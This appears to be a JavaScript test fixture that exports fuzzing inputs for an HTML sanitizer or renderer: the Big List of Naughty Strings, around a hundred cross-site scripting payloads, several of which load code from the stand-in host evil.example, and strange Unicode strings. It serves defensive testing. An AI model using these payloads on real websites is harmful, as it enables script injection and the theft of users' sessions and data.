// Strings that have broken other programs: the Big List of Naughty Strings, and a hundred ways to have a page run something.
// Whatever runs sets `globalThis.pwned`; whatever loads asks `evil.example`, which no test lets through.
import { createRequire } from "node:module";

export const NAUGHTY = createRequire(import.meta.url)("big-list-of-naughty-strings/blns.json");

const RUN = "globalThis.pwned=1";
const EVENTS = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter", "onbeforetoggle", "onscrollend", "onwheel"];
const BREAKOUTS = ["\">", "'>", "`>", "-->", "]]>", "</textarea>", "</title>", "</style>", "</option></select>", "</template>", "</svg>", "</noscript>", "</pre>", "</dialog>", "</button>"];
const SCHEMES = [
  "javascript:RUN", "JaVaScRiPt:RUN", " javascript:RUN", "\u0001javascript:RUN", "java\nscript:RUN", "java\tscript:RUN", "javascript&colon;RUN", "javascript://%0aRUN", "javascript:RUN//https://ok.example",
  "data:text/html,<script>parent.pwned=1</script>", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>", "vbscript:RUN", "blob:https://evil.example/x", "view-source:javascript:RUN", "//evil.example/x", "https://user:pass@evil.example/",
];
const ELEMENTS = [
  "<script>RUN</script>", "<script src=//evil.example/x.js></script>", "<ScRiPt>RUN</sCrIpT>", "<script type=module>import('//evil.example/x.js')</script>", "<img src=//evil.example/x.png>", "<image src=x onerror=RUN>",
  "<svg><script href=data:,RUN /></svg>", "<svg><animate onbegin=RUN attributeName=x dur=1s>", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='RUN'/></svg>#x\"/></svg>",
  "<math href=javascript:RUN>x</math>", "<math><mtext></form><form><mglyph><style></math><img src onerror=RUN>", "<iframe src=javascript:RUN></iframe>", "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", "<object data=javascript:RUN>",
  "<embed src=//evil.example/x>", "<a href=javascript:RUN>x</a>", "<form action=javascript:RUN><button>x</button></form>", "<button formaction=javascript:RUN>x</button>", "<input autofocus onfocus=RUN>", "<select autofocus onfocus=RUN>",
  "<video><source onerror=RUN></video>", "<audio src onerror=RUN>", "<body onload=RUN>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=modulepreload href=//evil.example/x.js>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>", "<style>@import '//evil.example/x.css';</style>", "<style>*{display:none!important}</style>", "<marquee onstart=RUN>", "<details open ontoggle=RUN>", "<dialog open onclose=RUN>",
  "<template shadowrootmode=open><script>RUN</script></template>", "<x contenteditable onblur=RUN>", "<xss id=x tabindex=1 onfocusin=RUN></xss>", "<noscript><p title='</noscript><img src=x onerror=RUN>'>", "<!--<img src=x onerror=RUN>-->",
  "<![CDATA[<img src=x onerror=RUN>]]>", "<?xml-stylesheet href='javascript:RUN'?>", "&lt;img src=x onerror=RUN&gt;", "&#60;img src=x onerror=RUN&#62;", "\\u003cimg src=x onerror=RUN\\u003e", "%3Cimg%20src=x%20onerror=RUN%3E", "<img/src/onerror=RUN>", "<img src=`x`onerror=RUN>",
  "\u00abimg src=x onerror=RUN\u00bb", "<svg/onload=RUN//", "<img src=x onerror=RUN",
];
const TEMPLATES = ["${RUN}", "{{constructor.constructor('RUN')()}}", "lit$123456789$", "<?lit$123456789$?>", "<!--?lit$1$-->", "#{RUN}", "<%= RUN %>", "[[RUN]]", "{{RUN}}", "'-RUN-'", "\";RUN;//"];

export const XSS = [
  ...EVENTS.map((event) => `" ${event}=RUN x="`),
  ...BREAKOUTS.map((out) => `${out}<img src=x onerror=RUN>`),
  ...SCHEMES,
  ...ELEMENTS,
  ...TEMPLATES,
].map((text) => text.replaceAll("RUN", RUN));

/** What turns text around, hides it, is endless, or is no text at all. */
export const ODD = ["\u202egpj.exe", "a\u2066b\u2069", "\u200b\u200bhidden", "\ud800 lone", "\ufeffbom", "\u0000nul", "__proto__", "constructor", "Z\u0351\u036f\u0343a\u0363\u0348lgo", "ﷺ".repeat(40), "x".repeat(3000), "👩‍👩‍👧‍👦".repeat(50)];

/** Every one of them. */
export const ALL = [...NAUGHTY, ...XSS, ...ODD];
